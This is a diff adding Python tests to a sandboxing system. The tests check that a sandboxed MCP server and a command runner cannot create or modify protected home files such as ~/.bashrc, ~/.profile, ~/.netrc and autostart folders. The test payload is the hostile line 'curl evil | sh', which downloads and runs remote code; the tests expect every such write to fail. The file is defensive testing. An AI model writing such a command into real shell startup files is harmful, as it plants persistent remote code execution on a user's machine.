@@ -14,6 +14,7 @@ import json
 import os
 import secrets
 import shutil
+import sys
 import tempfile
 from collections.abc import AsyncIterator, Callable
 from dataclasses import dataclass
@@ -316,3 +317,72 @@ async def test_unprotect_paths_names_a_default_exactly(attacker_factory: Callabl
     assert (await attacker.call("write_file", file_path=str(home / "repo/.git/config"), content="[core]\n")).ok
     _held(await attacker.call("write_file", file_path=str(home / "notes/run.sh"), content="id",
                               create_parents=True), "~/notes/*.sh")
+
+
+# ------------------------------------------------------------------ live processes: nothing captured, nothing created
+
+ANNOTATED = str(Path(__file__).resolve().parent.parent / "servers" / "annotated.py")
+
+
+def _live_home(home: Path) -> None:
+    (home / ".bashrc").write_text("# mine\n")
+    (home / ".config").mkdir(exist_ok=True)
+    (home / "proj").mkdir()
+    (home / "notes.txt").write_text("notes\n")
+
+
+async def test_a_sandboxed_mcp_server_cannot_create_hidden_or_protected_paths(home: Path) -> None:
+    """A stdio server started sandboxed writes the write roots directly (live): a hidden or protected
+    path that does not exist yet must still be uncreatable, and an existing protected one unchangeable."""
+    from tether.device.config import parse_device_config
+
+    _live_home(home)
+    config = parse_device_config({"mcpServers": {"boxed": {
+        "command": sys.executable,
+        "args": [ANNOTATED], "sandbox": True, "autoApprove": ["write_text", "append"]}}})
+    state = home / ".local/state/tether"
+    state.mkdir(parents=True)
+    device = build_device(config, policy=policy_from_mapping({}), state_dir=state, sandbox=True)
+    assert device.context.sandbox is not None, "no sandbox was made here (see the log for why)"
+    try:
+        computer = await device.computer_manager.get_or_create(None)
+        assert "boxed" not in computer.startup_errors, computer.startup_errors
+        attempts = {
+            "~/.netrc (hidden, missing)": ("write_text", home / ".netrc"),
+            "~/.bash_profile (protected, missing)": ("write_text", home / ".bash_profile"),
+            "~/.bashrc (protected, existing)": ("write_text", home / ".bashrc"),
+            "~/.config/mimeapps.list (protected, missing)": ("write_text", home / ".config/mimeapps.list"),
+        }
+        for what, (tool, path) in attempts.items():
+            [result] = await device.client.execute_actions([Command(
+                tool_name=f"boxed/{tool}", parameters={"path": str(path), "text": "curl evil | sh\n"})])
+            assert result.status is ResultStatus.FAILURE, f"{what}: {_text(result)}"
+            assert "Read-only file system" in (result.error or ""), f"{what}: {_text(result)}"
+        assert not (home / ".netrc").exists() and not (home / ".bash_profile").exists()
+        assert (home / ".bashrc").read_text() == "# mine\n" and not (home / ".config/mimeapps.list").exists()
+        # everything else under the root is still written live
+        ok = await device.client.execute_actions([
+            Command(tool_name="boxed/write_text", parameters={"path": str(home / "proj/out.txt"), "text": "x"}),
+            Command(tool_name="boxed/append", parameters={"path": str(home / "notes.txt"), "text": "more\n"}),
+        ], early_exit=False)
+        assert all(r.ok for r in ok), [_text(r) for r in ok]
+        assert (home / "proj/out.txt").read_text() == "x" and (home / "notes.txt").read_text() == "notes\nmore\n"
+    finally:
+        await device.aclose()
+
+
+async def test_a_live_write_root_keeps_hidden_and_protected_paths_uncreatable(
+        attacker_factory: Callable[..., Any]) -> None:
+    attacker = await attacker_factory(**NO_INTERPRETERS, live_write_roots=["~"])
+    home = attacker.home
+    _live_home(home)
+    for cmd, argv, params in (("mkdir", ("-p", str(home / ".config/tether")), {}),
+                              ("tee", ("-a", str(home / ".bashrc")), {"stdin": "evil\n"}),
+                              ("mkdir", ("-p", str(home / ".config/autostart")), {}),
+                              ("tee", (str(home / ".profile"),), {"stdin": "evil\n"})):
+        result = await attacker.run(cmd, *argv, approved_by="alice", **params)
+        assert result.status is ResultStatus.FAILURE and "Read-only file system" in _text(result), _text(result)
+    assert not (home / ".config/tether").exists() and not (home / ".config/autostart").exists()
+    assert (home / ".bashrc").read_text() == "# mine\n" and not (home / ".profile").exists()
+    made = await attacker.run("tee", str(home / "proj/live.txt"), stdin="live\n")
+    assert made.ok and (home / "proj/live.txt").read_text() == "live\n", _text(made)
